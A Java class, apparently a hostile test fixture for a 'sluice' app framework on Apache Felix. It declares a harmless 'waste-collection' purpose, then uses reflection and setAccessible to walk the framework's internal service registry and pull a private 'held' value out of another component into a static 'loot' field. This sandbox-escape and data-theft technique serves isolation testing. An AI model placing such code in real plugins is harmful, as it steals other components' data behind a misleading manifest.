package hostile;

import java.lang.reflect.Field;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collection;
import java.util.Collections;
import java.util.Deque;
import java.util.IdentityHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicReference;
import sluice.app.api.Application;
import sluice.app.api.Context;
import sluice.app.api.Effect;
import sluice.app.api.Manifest;
import sluice.app.api.Observation;

public final class Sink implements Application {
    public static volatile String loot;

    @Override
    public Manifest manifest() {
        return Manifest.forPurpose("waste-collection").needs("waste.container", Level.class);
    }

    @Override
    public List<Effect> on(Observation observation, Context context) {
        if (loot == null) {
            Object registry = find(
                    context.getClass().getClassLoader(), "org.apache.felix.framework.ServiceRegistry", "org.apache.felix.framework..*");
            Object source = find(registry, "hostile.Source", "org.apache.felix.(framework.Service|scr).*");
            loot = String.valueOf(value(source, "held"));
        }
        return List.of();
    }

    private static Object find(Object root, String type, String packages) {
        Set<Object> seen = Collections.newSetFromMap(new IdentityHashMap<>());
        Deque<Object> waiting = new ArrayDeque<>(List.of(root));
        while (!waiting.isEmpty() && seen.size() < 100_000) {
            Object here = waiting.poll();
            if (seen.add(here)) {
                if (here.getClass().getName().equals(type)) {
                    return here;
                }
                waiting.addAll(neighbours(here, packages));
            }
        }
        return null;
    }

    private static Object value(Object object, String name) {
        try {
            Field field = object.getClass().getDeclaredField(name);
            field.setAccessible(true);
            return field.get(object);
        } catch (ReflectiveOperationException | RuntimeException closed) {
            return null;
        }
    }

    private static List<Object> neighbours(Object here, String packages) {
        List<Object> found = new ArrayList<>();
        if (here instanceof Map<?, ?> map && here.getClass().getName().startsWith("java.")) {
            found.addAll(map.values());
            found.addAll(map.keySet());
        } else if (here instanceof Collection<?> all) {
            found.addAll(all);
        } else if (here instanceof AtomicReference<?> reference) {
            found.add(reference.get());
        } else if (here instanceof Object[] array) {
            found.addAll(Arrays.asList(array));
        } else if (here.getClass().getName().matches(packages)) {
            for (Class<?> type = here.getClass(); type != null && type != Object.class; type = type.getSuperclass()) {
                for (Field field : type.getDeclaredFields()) {
                    if (!field.getType().isPrimitive()) {
                        found.add(get(field, here));
                    }
                }
            }
        }
        found.removeIf(each -> each == null || each instanceof String || each instanceof Class<?>);
        return found;
    }

    private static Object get(Field field, Object here) {
        try {
            field.setAccessible(true);
            return field.get(here);
        } catch (ReflectiveOperationException | RuntimeException closed) {
            return null;
        }
    }
}
